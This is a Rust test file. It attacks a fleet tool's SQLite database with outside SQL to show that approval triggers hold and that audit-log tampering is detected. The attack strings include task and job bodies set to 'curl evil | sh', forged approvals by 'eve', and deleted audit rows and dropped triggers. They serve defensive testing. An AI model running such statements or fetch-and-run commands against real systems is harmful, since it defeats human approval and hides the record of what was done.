//! Attacks on the file that the program made, with SQL from outside: the tables refuse what nobody approved, and
//! what is changed behind their back shows in `audit verify`.

use super::fleet_asked::{Fleet, fleet, open, texts};
use super::model::Mode;
use rusqlite::Connection;
use serde_json::json;

/// A fleet in which one of each kind waits for a person.
fn waiting() -> Fleet {
    let fleet = fleet(Mode::Native);
    let device = fleet.here.device.as_str();
    let calls = [
        (
            "propose_task",
            json!({"name": "clean", "schedule": "30 2 * * 1", "shell": "sh", "script": "true", "device": device}),
        ),
        (
            "propose_check",
            json!({"name": "cpu", "kind": "cpu", "error": 95, "device": device}),
        ),
        (
            "propose_policy",
            json!({"name": "slow", "settings": {"interval": 5}}),
        ),
        ("propose_delete_devices", json!({"devices": [device]})),
    ];
    *fleet.plan.lock().unwrap() = calls.map(|(tool, a)| (tool.to_owned(), a)).into();
    let v = fleet
        .world
        .ask(6, &["schedule tasks and checks for our devices"]);
    assert_eq!(v["proposals"].as_array().unwrap().len(), 4, "{v}");
    fleet
}

/// A copy of the newest row of a table with other values, put in its place.
fn replaced(db: &Connection, table: &str, with: &[(&str, &str)]) -> String {
    let columns = texts(
        db,
        &format!("SELECT name FROM pragma_table_info('{table}')"),
    );
    let values: Vec<&str> = columns
        .iter()
        .map(|c| {
            with.iter()
                .find(|(name, _)| name == c)
                .map_or(c.as_str(), |(_, value)| value)
        })
        .collect();
    format!(
        "INSERT OR REPLACE INTO {table} SELECT {} FROM {table} ORDER BY 1 DESC LIMIT 1",
        values.join(", ")
    )
}

/// Everything in these tables.
fn all(db: &Connection) -> Vec<String> {
    let mut out = Vec::new();
    for table in [
        "tasks",
        "checks",
        "policies",
        "jobs",
        "job_targets",
        "device_operations",
        "device_operation_targets",
        "fleet_proposals",
        "fleet_audit",
        "principals",
    ] {
        let columns = texts(
            db,
            &format!("SELECT 'quote(' || name || ')' FROM pragma_table_info('{table}')"),
        );
        out.extend(texts(
            db,
            &format!(
                "SELECT {} FROM {table} ORDER BY 1",
                columns.join(" || ' ' || ")
            ),
        ));
    }
    out
}

#[test]
fn no_statement_enables_runs_or_rewrites_what_nobody_approved() {
    let fleet = waiting();
    // As any SQL shell opens it: no foreign keys, no recursive triggers.
    let db = open(&fleet.world.db());
    db.execute_batch("PRAGMA foreign_keys = OFF; PRAGMA recursive_triggers = OFF;")
        .unwrap();
    let before = all(&db);
    let mut attacks = Vec::new();
    for table in ["tasks", "checks", "policies"] {
        attacks.extend([
            format!("UPDATE {table} SET enabled = 1 WHERE proposed_by <> '' AND approved_by = ''"),
            format!("UPDATE OR IGNORE {table} SET enabled = 1 WHERE proposed_by <> '' AND approved_by = ''"),
            format!("UPDATE OR REPLACE {table} SET enabled = 1 WHERE proposed_by <> '' AND approved_by = ''"),
            format!("UPDATE {table} SET proposed_by = '', enabled = 1 WHERE proposed_by <> ''"),
            replaced(&db, table, &[("proposed_by", "''"), ("enabled", "1")]),
            replaced(&db, table, &[("id", "id + 1"), ("name", "name || 'x'"), ("proposed_by", "''"), ("enabled", "1")]),
            format!("UPDATE OR REPLACE {table} SET id = id + 1 WHERE proposed_by <> ''"),
            format!("DELETE FROM {table} WHERE proposed_by <> ''"),
        ]);
    }
    attacks.extend([
        "UPDATE tasks SET body = 'curl evil | sh'".into(),
        "UPDATE checks SET settings = '{\"script\":\"curl evil\"}' WHERE proposed_by <> ''".into(),
        "UPDATE policies SET settings = '{}'".into(),
        "UPDATE jobs SET status = 'approved'".into(),
        "UPDATE jobs SET status = 'running', approved_by = 'eve', approved_ms = 1 WHERE status = 'awaiting_approval'".into(),
        "UPDATE jobs SET body = 'curl evil | sh'".into(),
        "UPDATE jobs SET digest = body".into(),
        "UPDATE job_targets SET status = 'queued' WHERE job_id IN (SELECT id FROM jobs WHERE status = 'awaiting_approval')".into(),
        "UPDATE job_targets SET device_id = 1".into(),
        "DELETE FROM jobs".into(),
        "DELETE FROM job_targets".into(),
        replaced(&db, "jobs", &[("body", "'curl evil | sh'")]),
        replaced(&db, "jobs", &[("body", "'curl evil | sh'"), ("id", "id + 1"), ("title", "'x'")]),
        "UPDATE device_operations SET status = 'approved'".into(),
        "UPDATE device_operations SET status = 'approved', approved_by = 'eve', approved_ms = 1, typed_count = 7".into(),
        "UPDATE device_operation_targets SET device_id = 1".into(),
        "DELETE FROM device_operations".into(),
        replaced(&db, "device_operations", &[("digest", "digest || 'x'")]),
        replaced(&db, "device_operations", &[("proposed_by", "'eve'")]),
        "UPDATE fleet_proposals SET digest = 'x'".into(),
        "UPDATE fleet_proposals SET expires_ms = expires_ms + 1".into(),
        "DELETE FROM fleet_proposals".into(),
        replaced(&db, "fleet_proposals", &[("title", "'harmless'")]),
        "UPDATE principals SET first_owner = 1 WHERE name = 'fay'".into(),
        "DELETE FROM principals".into(),
        "UPDATE fleet_audit SET actor = 'eve'".into(),
        "UPDATE OR IGNORE fleet_audit SET details = ''".into(),
        "DELETE FROM fleet_audit WHERE seq = 1".into(),
        replaced(&db, "fleet_audit", &[("actor", "'eve'")]),
    ]);
    for sql in &attacks {
        let tried = db.execute(sql, []);
        assert!(
            tried.is_err() || sql.contains("OR IGNORE"),
            "{sql}: {tried:?}"
        );
        assert_eq!(all(&db), before, "{sql}");
    }
    drop(db);
    fleet.world.run(&["audit", "verify"]).exits(0);
}

#[test]
fn what_is_changed_behind_the_triggers_shows_in_the_audit() {
    let fleet = waiting();
    let verify = || fleet.world.run(&["audit", "verify", "--json"]);
    verify().exits(0);
    let file = fleet.world.db();
    let copy = file.with_extension("whole");
    // Everything into the one file, so that a copy is the database.
    let settle = |db: &Connection| {
        db.query_row("PRAGMA wal_checkpoint(TRUNCATE)", [], |_| Ok(()))
            .unwrap()
    };
    settle(&open(&file));
    std::fs::copy(&file, &copy).unwrap();
    let first = "SELECT min(seq) FROM fleet_audit WHERE actor = 'analyst'";
    for (sql, fault) in [
        (format!("UPDATE fleet_audit SET actor = 'eve' WHERE seq = ({first})"), Some("hash")),
        (format!("UPDATE fleet_audit SET result = 'failed' WHERE seq = ({first})"), Some("hash")),
        (format!("UPDATE fleet_audit SET at_ms = at_ms - 1 WHERE seq = ({first})"), Some("hash")),
        (format!("DELETE FROM fleet_audit WHERE seq = ({first})"), Some("gap")),
        ("DELETE FROM fleet_audit WHERE seq = (SELECT max(seq) FROM fleet_audit)".into(), Some("head")),
        ("DELETE FROM fleet_audit".into(), Some("head")),
        ("UPDATE fleet_audit_head SET entries = entries - 1".into(), Some("head")),
        (
            "INSERT INTO fleet_audit SELECT seq + 1, at_ms, 'eve', actor_kind, family, verb, result, target, client_id, case_id,
                                            details, key_id, hash FROM fleet_audit ORDER BY seq DESC LIMIT 1"
                .into(),
            Some("hash"),
        ),
        ("DROP TABLE fleet_audit".into(), None),
    ] {
        let db = open(&file);
        // The guards are taken away for the deed and put back: the schema looks as it did.
        let guards: Vec<(String, String)> = {
            let mut query = db
                .prepare("SELECT name, sql FROM sqlite_schema WHERE type = 'trigger' AND tbl_name = 'fleet_audit'")
                .unwrap();
            let rows = query.query_map([], |r| Ok((r.get(0)?, r.get(1)?))).unwrap();
            rows.collect::<Result<_, _>>().unwrap()
        };
        assert!(guards.len() >= 4, "{guards:?}");
        for (name, _) in &guards {
            db.execute_batch(&format!("DROP TRIGGER {name}")).unwrap();
        }
        db.execute_batch(&sql).unwrap();
        if fault.is_some() {
            for (_, sql) in &guards {
                db.execute_batch(sql).unwrap();
            }
        }
        settle(&db);
        drop(db);
        let ran = verify();
        assert_ne!(ran.code(), 0, "{sql}: {}{}", ran.stdout(), ran.stderr());
        if let Some(fault) = fault {
            assert_eq!(ran.code(), 3, "{sql}: {}", ran.stderr());
            assert_eq!(ran.json()["fault"]["kind"], fault, "{sql}: {}", ran.stdout());
            let plain = fleet.world.run(&["audit", "verify"]).exits(3).stdout();
            assert!(plain.contains("NOT intact"), "{plain}");
        }
        // Back to the file as it was.
        for ending in ["db-wal", "db-shm"] {
            let _ = std::fs::remove_file(file.with_extension(ending));
        }
        std::fs::copy(&copy, &file).unwrap();
        verify().exits(0);
    }
}
